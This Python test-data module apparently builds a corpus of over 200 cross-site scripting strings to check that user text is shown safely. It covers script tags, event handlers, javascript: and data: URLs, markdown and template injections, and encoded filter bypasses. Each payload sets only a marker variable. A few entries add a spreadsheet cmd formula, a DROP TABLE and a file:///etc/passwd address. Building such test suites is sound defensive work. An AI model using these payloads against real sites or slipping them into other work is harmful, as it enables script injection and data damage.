"""Texts that try to run a script where they are shown: what strangers type, call themselves and name their files.

Each would, if a screen took it for markup, an address or code, set `window.__ran`. Shown as text they are only odd.
"""

from __future__ import annotations

from itertools import product

RUN = "window.__ran=1"
# The same without a letter that some filters look for.
HIDDEN = "window['__r'+'an']=1"

_TAGS = (
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<script >{RUN}</script >",
    f"<script\n>{RUN}</script\n>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f'<script src="data:text/javascript,{RUN}"></script>',
    f"<script type=module>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'<img src=x onerror="{RUN}">',
    f"<img/src=x/onerror={RUN}>",
    f"<IMG SRC=x ONERROR={RUN}>",
    "<img src onerror=eval(atob('d2luZG93Ll9fcmFuPTE='))>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{RUN}"><text y=20>press</text></a></svg>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f'<math><a xlink:href="javascript:{RUN}">press</a></math>',
    f"<body onload={RUN}>",
    f"<body onpageshow={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<button autofocus onfocus={RUN}>press</button>",
    f"<details open ontoggle={RUN}>",
    f"<video src=x onerror={RUN}></video>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<object data="javascript:{RUN}"></object>',
    f'<embed src="javascript:{RUN}">',
    f'<form action="javascript:{RUN}"><button>press</button></form>',
    f'<form><button formaction="javascript:{RUN}">press</button></form>',
    f'<a href="javascript:{RUN}">press</a>',
    f'<a href="java&#10;script:{RUN}">press</a>',
    f'<a href="&#106;avascript:{RUN}">press</a>',
    f"<a href='data:text/html,<script>opener.{RUN}</script>'>press</a>",
    f'<link rel=stylesheet href="data:text/css,*{{color:red}}" onload={RUN}>',
    f"<style onload={RUN}></style>",
    f"<style>@import 'javascript:{RUN}';</style>",
    f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    '<base href="https://evil.example/">',
    f"<marquee onstart={RUN}>moves</marquee>",
    f'<div style="animation:x" onanimationstart={RUN}></div>',
    f'<div style="position:fixed;inset:0" onmouseover={RUN}>over everything</div>',
    f"<div contenteditable autofocus onfocus={RUN}>write</div>",
    f"<xss id=x tabindex=1 onfocus={RUN}></xss>",
    f"<custom-element oncontentvisibilityautostatechange={RUN} style=content-visibility:auto>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<template><img src=x onerror={RUN}></template>",
    f"<plaintext><img src=x onerror={RUN}>",
    f"<title><img src=x onerror={RUN}></title>",
    f"<xmp><img src=x onerror={RUN}></xmp>",
    f"<isindex type=image src=x onerror={RUN}>",
    f'<table background="javascript:{RUN}"><tr><td>cell</table>',
    f'<portal src="javascript:{RUN}">',
    f"<dialog open onclose={RUN}><form method=dialog><button autofocus>press</button></form></dialog>",
    f'<img src=x onerror="{HIDDEN}">',
    f"<img src=x:x onerror=setTimeout`{RUN}`>",
    f'<!--<img src="--><img src=x onerror={RUN}>">',
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script>",
)
_BREAKS = ("", '"', "'", "`", '">', "'>", "-->", "</textarea>", "</title>", "</script>", "]]>", '\\"')
_AFTER_BREAKS = (f"<img src=x onerror={RUN}>", f" onmouseover={RUN} autofocus onfocus={RUN} x=", f";{RUN};//")
_ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" javascript:{RUN}",
    f"\tjavascript:{RUN}",
    f"java\nscript:{RUN}",
    f"java\tscript:{RUN}",
    f"javascript://example.com/%0A{RUN}",
    f"javascript:{RUN}//https://example.com",
    f"javascript&colon;{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg onload={RUN} xmlns='http://www.w3.org/2000/svg'/>",
    f"blob:https://example.com/{RUN}",
    f'https://example.com/"onmouseover="{RUN}',
    f"https://example.com/'onfocus='{RUN}'autofocus='",
    f"https://example.com/<img src=x onerror={RUN}>",
    f"https://example.com/?q=</a><script>{RUN}</script>",
    f"http://[::1]/#<svg onload={RUN}>",
    f"https://user:javascript:{RUN}@example.com/",
    "file:///etc/passwd",
    f'www.example.com/"><svg onload={RUN}>',
    "https://example.com\u202e/gpj.exe",
    f"mailto:a@example.com?body=<img src=x onerror={RUN}>",
)
_MARKDOWN = (
    f"[press](javascript:{RUN})",
    f"[press](<javascript:{RUN}>)",
    f"[press](java%0ascript:{RUN})",
    f"[press]: javascript:{RUN}\n[press]",
    f'![x](x"onerror="{RUN})',
    f"![x](javascript:{RUN})",
    f"<javascript:{RUN}>",
    f'<https://example.com/"onclick={RUN}>',
    f"`<img src=x onerror={RUN}>`",
    f"```html\n<script>{RUN}</script>\n```",
    f"**<img src=x onerror={RUN}>**",
    f"> <script>{RUN}</script>",
    f"| a | <img src=x onerror={RUN}> |\n|---|---|\n| b | c |",
    f"# <svg onload={RUN}>",
)
_TEMPLATES = (
    f"{{{{constructor.constructor('{HIDDEN}')()}}}}",
    f"{{{{7*7}}}}{{{{{RUN}}}}}",
    f"${{{RUN}}}",
    f"#{{{RUN}}}",
    f"<%= {RUN} %>",
    f"{{% print {RUN} %}}",
    f"{{{{ self.__init__.__globals__ }}}}<img src=x onerror={RUN}>",
    f"[[${{{RUN}}}]]",
    f"*{{{RUN}}}",
    f"@{{{RUN}}}",
    f"__proto__[x]={RUN}",
    f'{{"__proto__":{{"x":"{RUN}"}}}}',
    f'{{"type":"div","props":{{"dangerouslySetInnerHTML":{{"__html":"<img src=x onerror={RUN}>"}}}}}}',
    f'{{"dangerouslySetInnerHTML":{{"__html":"<svg onload={RUN}>"}}}}',
)
_ENCODED = (
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"&#x3c;svg onload={RUN}&#x3e;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"%253Cscript%253E{RUN}%253C/script%253E",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"\\x3cimg src=x onerror={RUN}\\x3e",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"＜script＞{RUN}＜/script＞",
    f"<\u200bscript>{RUN}</\u200bscript>",
    f"\u202e>tpircs/<{RUN}>tpircs<",
    f"\u2028<img src=x onerror={RUN}>\u2029",
    f"\ufeff<svg onload={RUN}>",
    f"<img src=x onerror={RUN}>\u0301\u0301\u0301",
    f'=HYPERLINK("javascript:{RUN}","press")',
    f"=cmd|'/c calc'!A1 <script>{RUN}</script>",
    f"@SUM(1+1)*cmd|<svg onload={RUN}>",
    f"Bcc: all@example.com <script>{RUN}</script>",
    f"'; DROP TABLE entries; --<img src=x onerror={RUN}>",
    f'/restart{{"a":"<img src=x onerror={RUN}>"}}',
)
_WITH_WORDS = ("Where is my order 20417? {}", "{} <- what does this mean?")


def hostile_texts() -> list[str]:
    """All of them, each once, more than 200; no control characters but tabs and ends of lines."""
    broken = [f"{before}{after}" for before, after in product(_BREAKS, _AFTER_BREAKS)]
    framed = [frame.format(text) for frame in _WITH_WORDS for text in (*_TAGS[:16], *_ADDRESSES[:6])]
    found = (*_TAGS, *broken, *_ADDRESSES, *_MARKDOWN, *_TEMPLATES, *_ENCODED, *framed)
    return list(dict.fromkeys(found))
